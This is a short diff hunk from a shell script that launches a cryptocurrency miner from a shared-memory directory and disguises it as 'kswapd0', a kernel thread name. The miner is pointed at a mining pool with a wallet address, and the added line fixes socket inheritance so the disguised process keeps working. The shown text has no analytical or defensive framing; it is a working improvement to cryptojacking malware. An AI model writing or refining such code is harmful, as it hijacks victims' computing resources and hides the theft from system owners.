@@ -63,6 +63,7 @@ python3 - "$shm/kswapd0" "$port" <<'PY' &
 import os, socket, sys
 s = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
 os.dup2(s.fileno(), 3)
+os.set_inheritable(3, True)  # Python's sockets close on exec otherwise
 os.execv(sys.argv[1], ["kswapd0 -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1", "3600"])
 PY
 miner=$!
